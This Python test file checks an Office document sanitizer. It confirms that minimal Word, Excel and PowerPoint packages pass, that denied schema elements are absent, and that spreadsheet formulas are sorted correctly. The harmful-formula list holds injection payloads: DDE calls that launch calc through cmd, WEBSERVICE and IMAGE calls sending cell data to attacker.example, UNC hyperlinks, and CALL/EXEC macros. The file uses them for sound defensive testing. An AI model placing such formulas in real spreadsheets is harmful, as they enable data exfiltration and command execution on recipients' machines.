"""Office packages before the judge: what is sane passes, and one thing put back is refused."""

import pytest

from policies.model import Policy
from sanitizers.verify.judge import judge
from sanitizers.verify.ooxml import walk
from sanitizers.verify.ooxml.formulas import is_harmless
from sanitizers.verify.ooxml.markup import ELEMENTS, NAMESPACES
from sanitizers.verify.ooxml.parts import ROWS
from tests.sanitizers.ooxml.forge import docx, pptx, xlsx
from tests.sanitizers.ooxml.vector import in_body

POLICY = Policy(name="test")
PREFIX = "application/vnd.openxmlformats-officedocument."
DOCX, XLSX, PPTX = (
    PREFIX + name for name in ("wordprocessingml.document", "spreadsheetml.sheet", "presentationml.presentation")
)


@pytest.mark.parametrize(("package", "media_type"), [(docx(), DOCX), (xlsx(), XLSX), (pptx(), PPTX)])
def test_the_least_package_is_accepted(package, media_type):
    opinion = judge(package.build(), media_type, POLICY)

    assert opinion.accepted, opinion.where


def _words(text: str) -> frozenset[str]:
    return frozenset(text.split())


DENIED = _words(
    """
    w:control w:altChunk w:subDoc w:frameset w:frame w:movie w:attachedTemplate w:mailMerge w:docVars
    w:dataBinding w:attachedSchema w:saveThroughXslt w:entryMacro w:exitMacro w:fldData w:rsids w:contentPart
    w:embedRegular o:signatureline xvml:FmlaMacro xvml:DDE xvml:MapOCX xvml:ScriptText a:hlinkHover
    a:hlinkMouseOver a:wavAudioFile a:audioFile a:videoFile a:quickTimeFile wp15:webVideoPr a16:creationId
    p:link p:control p:cmd p:custDataLst p:contentPart p:sndAc p:audio p:video p:htmlPubPr p:modifyVerifier
    p:embeddedFontLst p14:media x:externalReference x:externalBook x:ddeLink x:oleLink x:control
    x:connection x:queryTable x:webPublishing x:fileSharing x:customWorkbookViews x:dbPr x:webPr x:MapInfo
    x:volType
    """
)
DENIED_ATTRIBUTES = _words(
    """
    gfxdata vbProcedure xlm rsidR uid userName
    """
)

HARMLESS = [
    "SUM(A1:B2)+1",
    "SUM(Sheet2!$A$1:$B$2,'シート 1'!A1)",
    "'売上 2024'!$A$1",
    "IF(A1=\"a|b\",\"[x]\",'It''s'!B2)",
    "Table1[[#This Row],[金額]]*1.1",
    "SUM(Table1[金額])",
    "_xlfn.XLOOKUP(A1,B:B,C:C)",
    "_xlfn._xlws.FILTER(A1:A9,B1:B9>0)",
    "-A1%^2",
    "A1#",
    "@A:A",
    "#REF!+1",
    "Sheet1!#REF!",
    "{1,2;3,4}",
    "_xlfn.LAMBDA(_xlpm.x,_xlpm.x+1)(5)",
    'HYPERLINK("https://example.jp/","a")',
    "SUM('第1号様式(その1)'!A1:B2)*'It''s(1)'!C3",
    "'年報(速報!)'!$A$1:$R$559",
    'COUNTIF(表[人数(男)],表[[#This Row],[名("略")]])&"("',
    "'Sheet1:Sheet3'!A1",
    "'Hoja 1'",
    "Sheet1:Sheet3!A1",
    "合計 内訳",
    "OFFSET(A1,0,0,COUNTA(A:A),1)",
    "1E+5",
    "A1 B1",
    '"a""b"',
]


@pytest.mark.parametrize("text", HARMLESS)
def test_a_formula_that_computes_from_the_workbook_is_harmless(text):
    assert is_harmless(text)


HARMFUL = [
    "cmd|'/k calc'!A0",
    "[1]Sheet1!A1",
    "'[1]Sheet 1'!A1",
    "'C:\\a\\[b.xlsx]c'!A1",
    "'\\\\attacker.example\\a\\[b.xlsx]c'!A1",
    "[1]!fn(1)",
    "Book.xlam!fn(1)",
    'WEBSERVICE("http://attacker.example/"&A1)',
    "_xlfn.WEBSERVICE(A1)",
    "webservice (A1)",
    'SUM(1)+FILTERXML(A1,"a")',
    'CALL("urlmon","a","J")',
    'REGISTER.ID("a","b")',
    'EXEC("calc")',
    'RTD("a",,"b")',
    'HYPERLINK("file://attacker.example/a","a")',
    'HYPERLINK("\\\\attacker.example\\a")',
    "HYPERLINK(A1)",
    'HYPERLINK("http://\\\\attacker.example\\a")',
    'CUBEVALUE("a","b")',
    'IMAGE("http://attacker.example/a.png")',
    '_xlfn.IMAGE("http://attacker.example/a.png")',
    "MyMacro()",
    "A1(1)",
    "Sheet1!SUM(1)",
    "EVILSUM(1)",
    "SUM.EVIL(1)",
    "GET.WORKSPACE(1)",
    "'a(1)'!EVIL(1)",
    "'a'!A1+EVIL('b(1)'!A1)",
    "MSEXCEL|'\\..\\..\\calc.exe'!A1",
    'DDE("cmd","/c calc","a")',
    "'a'|'b'!c",
]


@pytest.mark.parametrize("text", HARMFUL)
def test_a_formula_that_reaches_out_is_harmful(text):
    assert not is_harmless(text)


def test_every_root_is_an_element_and_every_element_is_reached():
    """A row that nothing leads to would be a place for what nobody looked at."""
    waiting = [root for row in ROWS.values() for root in row.roots if root != "vml"]
    waiting += [element.label for element in walk.VML.children.values()]
    reached: set[str] = set()
    while waiting:
        label = waiting.pop()
        if label not in reached:
            reached.add(label)
            waiting += (child.label for child in ELEMENTS[label].children.values())

    assert reached == set(ELEMENTS)


def test_names_that_must_not_be_there_are_not():
    attributes = {name for element in ELEMENTS.values() for name in element.attributes}

    assert not set(ELEMENTS) & DENIED
    assert not {name.rpartition(" ")[2] for name in attributes} & DENIED_ATTRIBUTES
    assert f"{NAMESPACES['r']} link" not in attributes


@pytest.mark.parametrize(
    ("instruction", "is_accepted"),
    [
        (" =SUM(ABOVE) ", True),  # as Word writes the sum of a column
        ("=A2+1", True),
        (" = PAGE - 1 ", True),
        (" FILENAME \\* MERGEFORMAT ", True),
        (" FILENAME \\p ", False),
        (" PAGEX ", False),
        (" PAGE=1 ", False),
        (" ASK a ", False),
    ],
)
def test_a_field_is_known_by_the_whole_of_its_type(instruction, is_accepted):
    field = f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>a</w:t></w:r></w:fldSimple></w:p>'

    assert judge(in_body(field)(docx()).build(), DOCX, POLICY).accepted is is_accepted
